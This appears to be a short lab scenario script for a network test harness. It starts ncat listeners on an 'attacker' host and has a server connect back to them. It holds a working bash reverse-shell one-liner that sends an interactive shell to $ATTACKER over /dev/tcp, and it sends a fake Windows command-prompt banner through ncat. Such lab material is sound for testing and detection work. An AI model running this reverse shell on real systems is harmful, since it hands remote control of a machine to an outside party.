# A shell that calls back: an interactive shell of the server joined to a listener outside, and the
# greeting of a Windows command prompt (text only).
# packages: ncat
serve attacker listener bash -c '(sleep 1; echo id; sleep 0.5; echo exit) | ncat -l -p 4444'
sleep 0.4
LAB_SECONDS=5 from server bash -c "exec bash -i >/dev/tcp/$ATTACKER/4444 2>&1 <&1"
stop_server listener
serve attacker listener ncat -l -p 4445
sleep 0.4
(printf 'Microsoft Windows [Version 10.0.19045.4529]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>'; sleep 0.4) | LAB_SECONDS=5 from server ncat $ATTACKER 4445
stop_server listener
